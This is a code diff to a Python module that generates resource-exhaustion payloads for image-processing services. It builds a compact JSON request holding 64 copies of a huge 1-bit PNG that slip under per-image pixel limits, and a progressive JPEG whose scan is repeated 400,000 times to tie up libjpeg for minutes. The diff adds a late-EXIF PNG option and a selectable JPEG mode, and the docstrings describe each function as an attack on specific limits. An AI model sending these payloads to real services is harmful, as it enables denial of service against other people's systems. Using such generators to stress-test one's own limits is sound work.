@@ -23,20 +23,20 @@ def one_bit_png(side: int) -> bytes:
     return buf.getvalue()
 
 
-def amplified_json(count: int = 64, side: int = 6300) -> bytes:
+def amplified_json(count: int = 64, side: int = 6300, late_exif: bool = False) -> bytes:
     """One JSON request of `count` base64 copies of a 1-bit PNG, each under a per-image pixel limit: 64 x 39.7 Mpx
     is 2.5 Gpx in 0.42 MB. Attacks limits that are counted per image instead of per request."""
-    png = base64.b64encode(one_bit_png(side)).decode()
+    png = base64.b64encode(png_with_late_exif(side) if late_exif else one_bit_png(side)).decode()
     return json.dumps({"instances": [png] * count}).encode()
 
 
-def progressive_jpeg_repeated_scans(side: int = 6000, repeats: int = 400_000) -> bytes:
+def progressive_jpeg_repeated_scans(side: int = 6000, repeats: int = 400_000, mode: str = "L") -> bytes:
     """A black progressive JPEG whose first scan (the SOS segment and one byte of entropy data) comes
     `repeats` more times. libjpeg decodes every scan over every block, even when drafted to 1/8 scale:
     200 scans cost 0.6 s at 6000x6000 (2.4 ms a scan), so 400,000 (4.5 MB) would take about 16 minutes.
     Attacks limits on bytes or pixels alone: the cost is pixels x scans."""
     buf = io.BytesIO()
-    Image.new("L", (side, side)).save(buf, "JPEG", progressive=True, quality=75)
+    Image.new(mode, (side, side)).save(buf, "JPEG", progressive=True, quality=75)
     data = buf.getvalue()
     sos = data.index(b"\xff\xda")  # the first SOS marker: everything before it is a marker segment
     end = sos + 2 + int.from_bytes(data[sos + 2:sos + 4], "big") + 1  # header + one entropy byte
